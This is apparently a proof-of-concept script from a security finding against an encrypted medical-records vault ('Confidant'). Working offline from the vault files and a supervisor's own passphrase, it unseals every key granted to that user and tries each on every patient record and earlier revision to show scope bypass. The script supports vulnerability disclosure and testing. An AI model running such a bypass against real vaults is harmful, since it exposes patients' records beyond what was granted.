#!/usr/bin/python3
# scope-bypass.py: finding 2 of issue #17, written from docs/FORMATS.md with
# only the attacker's own passphrase and the vault's files. A supervisor
# under a consent opens every key the vault holds for them (any patient-key
# grant, the details key, each record key granted to them) and tries each on
# every record of the patient and every earlier revision, outside Confidant.
#
#   scope-bypass.py VAULT USER PASSPHRASE-FILE PATIENT-ID
#
# Prints one line per record, "record ID: opened" or "record ID: refused",
# and one per earlier revision, "revision ID/N: opened" or "... refused".
import importlib.util
import os
import sys

import nacl.bindings as sodium
import nacl.exceptions

here = os.path.dirname(os.path.abspath(__file__))
spec = importlib.util.spec_from_file_location(
    "confidant_read", os.path.join(here, "..", "reader", "confidant-read.py"))
reader = importlib.util.module_from_spec(spec)
spec.loader.exec_module(reader)


def try_open(key, sealed, ad):
    try:
        sodium.crypto_aead_xchacha20poly1305_ietf_decrypt(sealed[24:], ad, sealed[:24], key)
        return True
    except nacl.exceptions.CryptoError:
        return False


def unseal_to_me(me, secrets, hex_sealed):
    try:
        return sodium.crypto_box_seal_open(bytes.fromhex(hex_sealed), me["box_pk"],
                                           secrets["box_sk"])
    except nacl.exceptions.CryptoError:
        return None


def main(argv):
    vault, user_name, passphrase_file, patient_id = argv[1:5]
    with open(os.path.join(vault, "keyring"), "rb") as f:
        keyring = reader.read_keyring(f.read())
    me = next(u for u in keyring["users"] if u["name"] == user_name)
    with open(passphrase_file, encoding="utf-8") as f:
        passphrase = f.read().split("\n")[0]
    secrets = reader.unwrap_with_passphrase(keyring, me, passphrase)
    vault_id = keyring["vault_id"]
    db = reader.Database(os.path.join(vault, "vault.db"), secrets["db_key"])

    # Every key sealed to this user for the patient, whatever its table:
    # patient keys ("Patient keys and grants"), the details key and record
    # keys ("Details keys and record keys"). A key of another kind is tried
    # anyway, as a key of every kind.
    keys = []
    for (hex_sealed,) in db.rows("SELECT hex(sealed_key) FROM patient_keys WHERE patient_id = "
                                 "'%s' AND user_id = '%s'" % (patient_id, me["id"])):
        keys.append(unseal_to_me(me, secrets, hex_sealed))
    for (hex_sealed,) in db.rows("SELECT hex(sealed_key) FROM details_grants WHERE patient_id = "
                                 "'%s' AND user_id = '%s'" % (patient_id, me["id"])):
        keys.append(unseal_to_me(me, secrets, hex_sealed))
    for (hex_sealed,) in db.rows("SELECT hex(sealed_key) FROM record_grants WHERE patient_id = "
                                 "'%s' AND user_id = '%s'" % (patient_id, me["id"])):
        keys.append(unseal_to_me(me, secrets, hex_sealed))
    keys = [k for k in keys if k is not None]
    print("keys held: %d" % len(keys))

    # A key wrapped under another key this user holds is one more key.
    for key_version, hex_sealed in db.rows("SELECT key_version, hex(sealed) FROM details_keys "
                                           "WHERE patient_id = '%s'" % patient_id):
        ad = reader.field_ad(vault_id, patient_id, "details_keys", patient_id, 1,
                             int(key_version))
        for k in list(keys):
            try:
                keys.append(reader.aead_open(k, bytes.fromhex(hex_sealed), ad, "a details key"))
            except reader.FormatError:
                pass
    for record_id, revision, key_version, hex_sealed in db.rows(
            "SELECT record_id, revision, key_version, hex(sealed) FROM record_keys "
            "WHERE patient_id = '%s'" % patient_id):
        ad = reader.field_ad(vault_id, patient_id, "record_keys", record_id, int(revision),
                             int(key_version))
        for k in list(keys):
            try:
                keys.append(reader.aead_open(k, bytes.fromhex(hex_sealed), ad, "a record key"))
            except reader.FormatError:
                pass

    def opens(record_id, revision, key_version, sealed):
        # Bound to the patient key's version, or to 0 under a record key.
        for version in (int(key_version), 0):
            ad = reader.field_ad(vault_id, patient_id, "records", record_id, int(revision),
                                 version)
            if any(try_open(k, sealed, ad) for k in keys):
                return True
        return False

    for record_id, revision, key_version, hex_sealed in db.rows(
            "SELECT id, revision, key_version, hex(sealed) FROM records WHERE patient_id = '%s' "
            "ORDER BY id" % patient_id):
        print("record %s: %s" % (record_id, "opened" if opens(
            record_id, revision, key_version, bytes.fromhex(hex_sealed)) else "refused"))
    for record_id, revision, key_version, hex_sealed in db.rows(
            "SELECT record_id, revision, key_version, hex(sealed) FROM record_revisions "
            "WHERE patient_id = '%s' ORDER BY record_id, revision" % patient_id):
        print("revision %s/%s: %s" % (record_id, revision, "opened" if opens(
            record_id, revision, key_version, bytes.fromhex(hex_sealed)) else "refused"))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
